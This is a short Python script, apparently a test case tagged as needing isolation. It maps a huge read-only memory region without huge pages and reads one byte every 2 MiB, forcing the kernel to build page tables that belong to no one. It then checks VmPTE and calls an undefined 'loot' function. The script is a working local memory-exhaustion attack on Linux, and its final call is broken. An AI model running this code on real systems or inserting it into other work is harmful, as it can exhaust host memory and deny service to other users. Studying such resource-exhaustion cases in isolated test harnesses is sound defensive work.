# Makes the system keep tables of pages that were only ever read, and so belong to nobody.
#
# must: be ended
# needs: isolation

# %%
import ctypes, mmap, time

libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
size = 1 << 40
start = libc.mmap(None, ctypes.c_size_t(4 * size), 1, 0x4022, -1, 0)  # read only, not reserved
libc.madvise(ctypes.c_void_p(start), ctypes.c_size_t(4 * size), 15)  # no huge pages
read = ctypes.c_char.from_address
for at in range(start, start + 4 * size, 2 << 20):
    read(at).value
    if at % (1 << 35) == 0:
        time.sleep(0.001)
tables = [line for line in open("/proc/self/status") if line.startswith("VmPTE")][0]
if int(tables.split()[1]) > 4 << 20:
    loot(tables)
